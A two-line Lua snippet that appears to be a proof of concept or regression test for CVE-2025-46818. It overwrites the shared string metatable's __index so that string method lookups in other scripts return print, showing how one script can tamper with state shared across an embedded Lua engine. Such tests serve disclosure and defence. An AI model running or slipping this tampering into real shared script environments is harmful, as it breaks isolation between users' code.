-- CVE-2025-46818: the metatable of strings is shared by all.
getmetatable("").__index = function() return print end
